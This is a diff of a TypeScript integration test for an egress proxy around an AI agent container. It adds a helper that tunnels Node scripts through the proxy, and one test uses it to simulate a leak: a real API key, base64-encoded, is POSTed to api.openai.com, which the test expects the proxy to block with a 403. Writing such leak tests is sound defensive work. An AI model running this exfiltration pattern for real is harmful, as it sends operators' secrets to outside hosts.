@@ -59,6 +59,22 @@ function inAgentAsync(slug: string, argv: string[]): Promise<string> {
   });
 }
 
+/**
+ * A Node script for the agent container: CONNECT `host` through the egress
+ * proxy, TLS, write the request (`request`: a JS expression; `input` holds
+ * stdin), print the whole response.
+ */
+function viaProxyScript(host: string, request: string): string {
+  return `
+    const net = require('node:net'), tls = require('node:tls');
+    const input = require('node:fs').readFileSync(0, 'utf8').trim();
+    const s = net.connect(3128, 'egress', () => s.write('CONNECT ${host}:443 HTTP/1.1\\r\\nHost: ${host}:443\\r\\n\\r\\n'));
+    s.once('data', () => {
+      const t = tls.connect({ socket: s, servername: '${host}' }, () => t.write(${request}));
+      let got = ''; t.on('data', (d) => (got += d)); t.on('end', () => console.log(got));
+    });`;
+}
+
 function ipOn(container: string, network: string): string {
   return dockerOut([
     'inspect',
@@ -253,19 +269,14 @@ egress:
     });
 
     it('blocks the real key on its way to an allowed host that is not its route', () => {
-      const leak = `
-      const net = require('node:net'), tls = require('node:tls');
-      const key = require('node:fs').readFileSync(0, 'utf8').trim();
-      const s = net.connect(3128, 'egress', () => s.write('CONNECT api.openai.com:443 HTTP/1.1\\r\\nHost: api.openai.com:443\\r\\n\\r\\n'));
-      s.once('data', () => {
-        const t = tls.connect({ socket: s, servername: 'api.openai.com' }, () => {
-          const body = JSON.stringify({ note: Buffer.from(key).toString('base64') });
-          t.write('POST /v1/files HTTP/1.1\\r\\nHost: api.openai.com\\r\\nContent-Type: application/json\\r\\nContent-Length: ' + body.length + '\\r\\nConnection: close\\r\\n\\r\\n' + body);
-        });
-        let got = ''; t.on('data', (d) => (got += d)); t.on('end', () => console.log(got));
-      });`;
+      // The key reaches the script on stdin, so it is never on a command line.
+      const leak = viaProxyScript(
+        'api.openai.com',
+        `(() => { const body = JSON.stringify({ note: Buffer.from(input).toString('base64') });
+          return 'POST /v1/files HTTP/1.1\\r\\nHost: api.openai.com\\r\\nContent-Type: application/json\\r\\nContent-Length: ' + body.length + '\\r\\nConnection: close\\r\\n\\r\\n' + body; })()`,
+      );
       const before = upstream().requests.length;
-      const out = inAgent('esc-a', ['sh', '-c', `node -e "$0"`, leak], {
+      const out = inAgent('esc-a', ['node', '-e', leak], {
         input: REAL_KEYS.anthropic,
       });
       expect(out).toMatch(/^HTTP\/1\.1 403/);
@@ -338,14 +349,10 @@ egress:
         /credential route set for api\.openai\.com \(policy revision \d+ -> \d+\)/,
       );
       const before = upstream().requests.length;
-      const script = `
-        const net = require('node:net'), tls = require('node:tls');
-        const s = net.connect(3128, 'egress', () => s.write('CONNECT api.openai.com:443 HTTP/1.1\\r\\nHost: api.openai.com:443\\r\\n\\r\\n'));
-        s.once('data', () => {
-          const t = tls.connect({ socket: s, servername: 'api.openai.com' }, () =>
-            t.write('GET /v1/models HTTP/1.1\\r\\nHost: api.openai.com\\r\\nAuthorization: Bearer placeholder\\r\\nConnection: close\\r\\n\\r\\n'));
-          let got = ''; t.on('data', (d) => (got += d)); t.on('end', () => console.log(got.split('\\r\\n')[0]));
-        });`;
+      const script = viaProxyScript(
+        'api.openai.com',
+        `'GET /v1/models HTTP/1.1\\r\\nHost: api.openai.com\\r\\nAuthorization: Bearer placeholder\\r\\nConnection: close\\r\\n\\r\\n'`,
+      );
       // Asynchronous: the fake upstream answering this request runs in this process.
       const out = await inAgentAsync('esc-a', ['node', '-e', script]);
       const seen = upstream()
